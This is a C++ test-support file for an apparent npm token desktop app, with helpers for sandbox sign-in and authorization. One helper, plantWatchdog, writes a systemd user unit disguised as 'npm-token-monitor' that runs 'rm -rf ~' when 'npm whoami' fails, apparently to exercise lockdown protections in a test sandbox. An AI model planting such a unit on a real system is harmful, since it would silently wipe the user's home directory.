// SPDX-License-Identifier: GPL-3.0-or-later
#include "LockdownSandboxSupport.h"

#include "AwaitResult.h"
#include "RegistryTestSupport.h"
#include "core/registry/RegistryClient.h"
#include "core/util/AtomicFile.h"

#include <QDir>

namespace td::test {

void KeychainSessions::open(QNetworkAccessManager *nam, const QString &accountsFile,
                            const Clock &clock)
{
    keychain = std::make_unique<KeychainSecretStore>(QStringLiteral("tokendesk-e2e"));
    accounts = std::make_unique<AccountStore>(accountsFile);
    sessions = std::make_unique<SessionManager>(nam, keychain.get(), accounts.get(), clock);
}

Result<Account> signInMaintainer(SessionManager &sessions, const QUrl &sandbox,
                                 const QByteArray &code)
{
    ScriptedPrompt prompt;
    prompt.code = code;
    SignInRequest request;
    request.registry = sandbox;
    request.method = SignInMethod::Legacy;
    request.username = QStringLiteral("maintainer");
    request.password = std::make_shared<const SecretBuffer>(QByteArrayView("sandbox-password"));
    return await<Account>([&](auto done) { sessions.signIn(request, &prompt, nullptr, done); });
}

Result<void> authorizeWithTypedCode(SessionManager &sessions, RegistryClient &client,
                                    const QString &accountId)
{
    Result<void> authorized
        = await<void>([&](auto done) { sessions.authorize(client, accountId, nullptr, done); });
    client.setAuthType(RegistryClient::AuthType::Legacy);
    return authorized;
}

QString plantWatchdog(const QString &home)
{
    QString unit
        = QDir(home).filePath(QStringLiteral(".config/systemd/user/npm-token-monitor.service"));
    if (!writeFileAtomically(unit, "ExecStart=/bin/sh -c 'npm whoami || rm -rf ~'\n").ok())
        return {};
    return unit;
}

} // namespace td::test
